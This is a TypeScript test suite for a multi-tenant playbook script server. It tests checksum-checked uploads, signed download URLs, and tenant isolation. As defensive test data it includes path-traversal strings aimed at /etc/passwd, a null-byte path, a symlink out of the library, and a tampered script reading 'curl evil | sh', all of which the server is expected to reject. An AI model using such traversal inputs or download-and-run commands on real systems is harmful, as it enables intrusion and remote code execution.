import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { createWriteStream, promises as fs } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { contentHash } from '../../src/core/escher-api/content-hash';
import { libraryS3Path, tenantS3Path } from '../../src/core/escher-api/s3-path';
import type { Clock } from '../../src/core/shared/clock';
import { AuthError, NotFoundError, RequestRejectedError, VersionConflictError } from '../../src/core/shared/errors';
import { sha256, sha256File } from '../../src/core/shared/hash';
import { OTHER_TENANT, OTHER_TOKEN, startTestServer, TEST_TENANT, type TestServer } from '../helpers/dev-server';
import { publishNew, raw, writeLibraryPlaybook } from './fixtures';
import { tamperHex } from '../helpers/tamper';

async function setup(t: { after(fn: () => Promise<void>): void }, opts: Parameters<typeof startTestServer>[0] = {}): Promise<TestServer & { work: string }> {
  const s = await startTestServer(opts);
  const work = await fs.mkdtemp(path.join(os.tmpdir(), 'escher-scripts-test-'));
  t.after(async () => {
    await s.close();
    await fs.rm(work, { recursive: true, force: true });
  });
  return { ...s, work };
}

async function readAll(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

async function blobFiles(dataDir: string): Promise<string[]> {
  const dir = path.join(dataDir, 'tenants', TEST_TENANT);
  const out: string[] = [];
  const walk = async (d: string): Promise<void> => {
    for (const e of await fs.readdir(d, { withFileTypes: true }).catch(() => [])) {
      if (e.isDirectory()) await walk(path.join(d, e.name));
      else out.push(path.relative(dir, path.join(d, e.name)));
    }
  };
  await walk(path.join(dir, 'blobs'));
  await walk(path.join(dir, 'tmp'));
  return out;
}

test('an upload whose bytes do not match X-Content-SHA256 is refused and leaves nothing behind', async (t) => {
  const s = await setup(t);
  const file = path.join(s.work, 'stop.sh');
  await fs.writeFile(file, 'echo real\n');
  const args = { playbookId: 'rds-stop', version: '1.0.0', path: 'shell/stop.sh', file, size: 10 };
  await assert.rejects(s.api.uploadScript({ ...args, sha256: sha256('echo fake\n') }), (e: unknown) => e instanceof RequestRejectedError && e.status === 422 && e.serverCode === 'CHECKSUM_MISMATCH');
  assert.deepEqual(await blobFiles(s.dataDir), []);
  const ok = await s.api.uploadScript({ ...args, sha256: sha256('echo real\n') });
  assert.deepEqual(ok, { s3_path: tenantS3Path(TEST_TENANT, 'rds-stop', '1.0.0', 'shell/stop.sh'), sha256: sha256('echo real\n'), size: 10 });
  // Idempotent: the same bytes again give the same answer and one blob.
  assert.deepEqual(await s.api.uploadScript({ ...args, sha256: sha256('echo real\n') }), ok);
  assert.equal((await blobFiles(s.dataDir)).length, 1);
  assert.deepEqual(await s.api.missingBlobs([sha256('echo real\n'), sha256('nope')]), [sha256('nope')]);
  assert.deepEqual(await s.api.missingBlobs([]), []);
});

test('the scripts of a published version cannot be replaced by a new upload', async (t) => {
  const s = await setup(t);
  const { record } = await publishNew(s.api, s.work, 'rds-stop', '1.0.0', { 'shell/stop.sh': 'echo original\n' });
  const file = path.join(s.work, 'evil.sh');
  await fs.writeFile(file, 'echo replaced\n');
  await assert.rejects(
    s.api.uploadScript({ playbookId: 'rds-stop', version: '1.0.0', path: 'shell/stop.sh', file, sha256: sha256('echo replaced\n'), size: 14 }),
    (e: unknown) => e instanceof VersionConflictError && (e.current as { revision: string }).revision === record.revision,
  );
  const ticket = await s.api.requestDownload(record.versions['1.0.0']?.metadata.scripts[0]?.s3_path as string);
  assert.equal(ticket.sha256, sha256('echo original\n'));
  // A new version may carry the new bytes.
  assert.equal((await s.api.uploadScript({ playbookId: 'rds-stop', version: '1.0.1', path: 'shell/stop.sh', file, sha256: sha256('echo replaced\n'), size: 14 })).size, 14);
});

test('an upload over the size limit is refused before it is stored', async (t) => {
  const s = await setup(t, { maxUploadBytes: 1000 });
  const body = randomBytes(5000);
  const file = path.join(s.work, 'big.sh');
  await fs.writeFile(file, body);
  await assert.rejects(
    s.api.uploadScript({ playbookId: 'rds-stop', version: '1.0.0', path: 'shell/big.sh', file, sha256: sha256(body), size: body.length }),
    (e: unknown) => e instanceof RequestRejectedError && e.status === 413,
  );
  assert.deepEqual(await blobFiles(s.dataDir), []);
});

test('upload paths are validated: traversal, unknown formats and bad versions are 400', async (t) => {
  const s = await setup(t);
  const file = path.join(s.work, 'x.sh');
  await fs.writeFile(file, 'x');
  for (const [p, v] of [['../../etc/passwd', '1.0.0'], ['shell/../../x', '1.0.0'], ['bin/x.sh', '1.0.0'], ['shell', '1.0.0'], ['shell/x.sh', '1.0'], ['shell/x.sh', '../1.0.0']] as const) {
    await assert.rejects(s.api.uploadScript({ playbookId: 'rds-stop', version: v, path: p, file, sha256: sha256('x'), size: 1 }), (e: unknown) => e instanceof RequestRejectedError && e.status === 400, `${p} ${v}`);
  }
  assert.deepEqual(await blobFiles(s.dataDir), []);
});

test('a 100 MB script streams up and down with bounded memory, byte for byte', async (t) => {
  const s = await setup(t);
  const file = path.join(s.work, 'huge.sh');
  const chunk = randomBytes(1024 * 1024);
  const hash = createHash('sha256');
  await new Promise<void>((resolve, reject) => {
    const out = createWriteStream(file);
    out.on('error', reject);
    for (let i = 0; i < 100; i++) {
      chunk[0] = i; // every MiB differs
      out.write(Buffer.from(chunk));
      hash.update(chunk);
    }
    out.end(resolve);
  });
  const expected = hash.digest('hex');
  const size = 100 * 1024 * 1024;
  global.gc?.();
  const before = process.memoryUsage().rss;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
  try {
    const up = await s.api.uploadScript({ playbookId: 'huge', version: '1.0.0', path: 'shell/huge.sh', file, sha256: expected, size });
    assert.equal(up.size, size);
    const ticket = await s.api.requestDownload(up.s3_path);
    assert.equal(ticket.size, size);
    const got = await s.api.fetchStream(ticket.url);
    assert.equal(got.size, size);
    const h = createHash('sha256');
    let n = 0;
    for await (const c of got.stream) {
      h.update(c as Buffer);
      n += (c as Buffer).length;
    }
    assert.equal(n, size);
    assert.equal(h.digest('hex'), expected);
  } finally {
    clearInterval(sampler);
  }
  t.diagnostic(`peak RSS growth ${Math.round((peak - before) / 1048576)} MB`);
  // Whole-file buffering anywhere (client upload, server, client download) would add >= 100 MB.
  assert.ok(peak - before < 80 * 1024 * 1024, `RSS grew by ${Math.round((peak - before) / 1048576)} MB`);
});

test('download tickets are short-lived, signed URLs on the same host that need no token', async (t) => {
  let now = Date.parse('2026-06-01T12:00:00Z');
  const clock: Clock = { now: () => now, setTimeout: (fn, ms) => ({ cancel: clearTimeout.bind(null, setTimeout(fn, ms)) }) };
  const s = await setup(t, { clock, urlTtlSeconds: 60 });
  const { record } = await publishNew(s.api, s.work, 'rds-stop');
  const s3 = record.versions['1.0.0']?.metadata.scripts[0]?.s3_path as string;
  const ticket = await s.api.requestDownload(s3);
  const url = new URL(ticket.url);
  assert.equal(url.host, new URL(s.url).host);
  assert.equal(ticket.expires_at, '2026-06-01T12:01:00.000Z');
  assert.ok(!ticket.url.includes('test-token'), 'no token in the URL');
  // No Authorization header is sent for the blob, and it works.
  const plain = await raw(s.url, 'GET', url.pathname + url.search, { token: null, tenant: null });
  assert.equal(plain.status, 200);
  assert.equal(sha256(plain.text), ticket.sha256);

  const tamper = async (mutate: (u: URL) => void, code: string): Promise<void> => {
    const u = new URL(ticket.url);
    mutate(u);
    await assert.rejects(s.api.fetchStream(u.href), (e: unknown) => e instanceof AuthError && e.status === 403 && e.serverCode === code, `${u.pathname}${u.search}`);
  };
  await tamper((u) => u.searchParams.set('sig', tamperHex(u.searchParams.get('sig') ?? '')), 'BAD_SIGNATURE');
  await tamper((u) => u.searchParams.set('exp', String(Number(u.searchParams.get('exp')) + 3600)), 'BAD_SIGNATURE');
  await tamper((u) => u.searchParams.delete('sig'), 'BAD_SIGNATURE');
  await tamper((u) => (u.pathname = u.pathname.replace('/t/acme/', '/t/globex/')), 'BAD_SIGNATURE');
  await tamper((u) => (u.pathname = u.pathname.replace(/[0-9a-f]{64}$/, (sha) => tamperHex(sha, 63))), 'BAD_SIGNATURE');
  // A bearer token is no substitute for a signature.
  assert.equal((await raw(s.url, 'GET', url.pathname)).status, 403);

  now += 61_000;
  await tamper(() => undefined, 'URL_EXPIRED');
  const fresh = await s.api.requestDownload(s3);
  assert.equal((await readAll((await s.api.fetchStream(fresh.url)).stream)).length, fresh.size);
});

test('hostile s3_paths are refused before the server touches its disk', async (t) => {
  const s = await setup(t);
  await publishNew(s.api, s.work, 'rds-stop');
  const hostile = [
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell/../../../../server-key',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell/%2e%2e/%2e%2e/x',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell//stop.sh',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell\\stop.sh',
    's3://escher-tenant-data/tenants/../playbooks/rds-stop/1.0.0/shell/stop.sh',
    's3://escher-tenant-data/tenants/ACME/playbooks/rds-stop/1.0.0/shell/stop.sh',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/v1.0.0/shell/stop.sh',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/stop.sh',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell/stop.sh\u0000.txt',
    's3://escher-tenant-data/tenants/acme/playbooks/rds-stop/1.0.0/shell/stop.sh?x=1',
    's3://other-bucket/tenants/acme/playbooks/rds-stop/1.0.0/shell/stop.sh',
    '/etc/passwd',
    'file:///etc/passwd',
    '',
  ];
  for (const p of hostile) {
    await assert.rejects(s.api.requestDownload(p), (e: unknown) => e instanceof RequestRejectedError && e.status === 400 && e.serverCode === 'BAD_S3_PATH', JSON.stringify(p));
  }
  await assert.rejects(s.api.requestDownload(tenantS3Path(OTHER_TENANT, 'rds-stop', '1.0.0', 'shell/stop.sh')), (e: unknown) => e instanceof AuthError && e.status === 403);
  await assert.rejects(s.api.requestDownload(tenantS3Path(TEST_TENANT, 'rds-stop', '1.0.0', 'shell/none.sh')), NotFoundError);
  // The other tenant cannot reach acme's script even with the right path.
  const globex = s.client({ tenantId: OTHER_TENANT, token: OTHER_TOKEN });
  await assert.rejects(globex.requestDownload(tenantS3Path(TEST_TENANT, 'rds-stop', '1.0.0', 'shell/stop.sh')), AuthError);
});

test('the Escher Library is served to every tenant, verified at load; bad entries are left out', async (t) => {
  const lib = await fs.mkdtemp(path.join(os.tmpdir(), 'escher-lib-'));
  t.after(() => fs.rm(lib, { recursive: true, force: true }));
  const stop = '#!/bin/sh\naws rds stop-db-instance --db-instance-identifier "$1"\n';
  await writeLibraryPlaybook(lib, 'escher-aws-rds-stop', '1.0.0', { 'shell/stop.sh': stop });
  await writeLibraryPlaybook(lib, 'escher-aws-rds-stop', '1.2.0', { 'shell/stop.sh': stop, 'terraform/main.tf': 'resource "x" "y" {}\n' }, { name: 'Stop RDS (terraform too)' });
  await writeLibraryPlaybook(lib, 'escher-azure-vm-stop', '2.0.0', { 'shell/stop.sh': 'az vm stop\n' }, { cloud_provider: 'azure', name: 'Stop Azure VMs', keywords: ['azure', 'vm'], resource_types: ['vm'] });
  // Tampered after writing: the bytes no longer match metadata.json.
  await writeLibraryPlaybook(lib, 'escher-tampered', '1.0.0', { 'shell/x.sh': 'echo good\n' });
  await fs.writeFile(path.join(lib, 'escher-tampered', 'v1.0.0', 'shell', 'x.sh'), 'curl evil | sh\n');
  await writeLibraryPlaybook(lib, 'escher-private', '1.0.0', { 'shell/x.sh': 'echo\n' }, { storage_strategy: 'local_only' });
  // A script that is a symlink out of the library.
  await writeLibraryPlaybook(lib, 'escher-link', '1.0.0', { 'shell/x.sh': 'echo\n' });
  await fs.rm(path.join(lib, 'escher-link', 'v1.0.0', 'shell', 'x.sh'));
  await fs.symlink('/etc/hostname', path.join(lib, 'escher-link', 'v1.0.0', 'shell', 'x.sh'));

  const s = await setup(t, { libraryDir: lib });
  assert.equal(s.server.libraryProblems.length, 3, s.server.libraryProblems.join('\n'));
  const latest = await s.api.fetchMetadata('escher-aws-rds-stop', 'latest');
  assert.equal(latest.source, 'library');
  assert.equal(latest.review_status, 'not_required');
  assert.equal(latest.metadata.version, '1.2.0');
  assert.equal(latest.metadata.content_hash, contentHash(latest.metadata));
  assert.deepEqual(latest.metadata.scripts.map((x) => x.s3_path), [libraryS3Path('escher-aws-rds-stop', '1.2.0', 'shell/stop.sh'), libraryS3Path('escher-aws-rds-stop', '1.2.0', 'terraform/main.tf')]);
  for (const name of ['escher-tampered', 'escher-private', 'escher-link']) await assert.rejects(s.api.fetchMetadata(name, 'latest'), NotFoundError, name);

  const globex = s.client({ tenantId: OTHER_TENANT, token: OTHER_TOKEN });
  const ticket = await globex.requestDownload(libraryS3Path('escher-aws-rds-stop', '1.0.0', 'shell/stop.sh'));
  assert.equal((await readAll((await globex.fetchStream(ticket.url)).stream)).toString(), stop);
  await assert.rejects(s.api.requestDownload(libraryS3Path('escher-tampered', '1.0.0', 'shell/x.sh')), NotFoundError);

  const hits = await s.api.search('stop azure vm');
  assert.equal(hits[0]?.playbook_id, 'escher-azure-vm-stop');
  assert.equal(hits[0]?.source, 'library');
  // A tenant playbook with the same id wins for source=any; the library copy stays reachable.
  await publishNew(s.api, s.work, 'escher-aws-rds-stop', '9.0.0');
  assert.equal((await s.api.fetchMetadata('escher-aws-rds-stop', 'latest')).source, 'tenant');
  assert.equal((await s.api.fetchMetadata('escher-aws-rds-stop', 'latest', 'library')).metadata.version, '1.2.0');
  await assert.rejects(s.api.fetchMetadata('escher-azure-vm-stop', '2.0.0', 'tenant'), NotFoundError);
});

test('search ranks tenant and library playbooks by keywords and skips rejected ones', async (t) => {
  const s = await setup(t);
  await publishNew(s.api, s.work, 'weekend-rds-shutdown', '1.0.0', undefined, { name: 'Weekend RDS shutdown', keywords: ['rds', 'weekend'] });
  await publishNew(s.api, s.work, 'ec2-rightsizing', '1.0.0', undefined, { name: 'EC2 rightsizing', description: 'Resize EC2 instances', keywords: ['ec2', 'cost'], resource_types: ['ec2'] });
  const { record } = await publishNew(s.api, s.work, 'rds-snapshot-cleanup', '1.0.0', undefined, { name: 'RDS snapshot cleanup', keywords: ['rds', 'snapshot'], storage_strategy: 'uploaded_for_review' });
  assert.equal((await s.api.search('rds weekend'))[0]?.playbook_id, 'weekend-rds-shutdown');
  assert.equal((await s.api.search('rightsizing ec2', 1)).length, 1);
  assert.ok((await s.api.search('snapshot')).some((h) => h.playbook_id === 'rds-snapshot-cleanup'));
  await raw(s.url, 'POST', '/api/playbooks/rds-snapshot-cleanup/versions/1.0.0/review', { token: 'test-admin-token', body: { status: 'rejected' }, headers: { 'if-match': `"${record.revision}"` } });
  assert.ok(!(await s.api.search('snapshot')).some((h) => h.playbook_id === 'rds-snapshot-cleanup'));
});

test('sha256File of what the server stored equals the uploaded bytes (content-addressed layout)', async (t) => {
  const s = await setup(t);
  await publishNew(s.api, s.work, 'rds-stop', '1.0.0', { 'shell/stop.sh': 'echo layout\n' });
  const sha = sha256('echo layout\n');
  const stored = path.join(s.dataDir, 'tenants', TEST_TENANT, 'blobs', sha.slice(0, 2), sha);
  assert.deepEqual(await sha256File(stored), { sha256: sha, size: 12 });
});

test('--public-url: tickets are built on the address clients use, not the bound one', async (t) => {
  const probe = http.createServer();
  await new Promise<void>((r) => probe.listen(0, '127.0.0.1', r));
  const port = (probe.address() as AddressInfo).port;
  await new Promise<void>((r) => probe.close(() => r()));
  const s = await setup(t, { host: 'localhost', port, publicUrl: `http://localhost:${port}/` });
  assert.equal(s.url, `http://localhost:${port}`);
  const { record } = await publishNew(s.api, s.work, 'rds-stop');
  const ticket = await s.api.requestDownload(record.versions['1.0.0']?.metadata.scripts[0]?.s3_path as string);
  assert.ok(ticket.url.startsWith(`http://localhost:${port}/blob/`), ticket.url);
  assert.equal((await readAll((await s.api.fetchStream(ticket.url)).stream)).length, ticket.size);
});

test('parallel uploads of one version all land in its object manifest', async (t) => {
  const s = await setup(t);
  const scripts = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`shell/step-${i}.sh`, `echo step ${i}\n`]));
  await Promise.all(
    Object.entries(scripts).map(async ([p, body]) => {
      const file = path.join(s.work, p.replace('/', '_'));
      await fs.writeFile(file, body);
      return s.api.uploadScript({ playbookId: 'many', version: '1.0.0', path: p, file, sha256: sha256(body), size: body.length });
    }),
  );
  for (const [p, body] of Object.entries(scripts)) {
    const ticket = await s.api.requestDownload(tenantS3Path(TEST_TENANT, 'many', '1.0.0', p));
    assert.equal(ticket.sha256, sha256(body), p);
  }
});
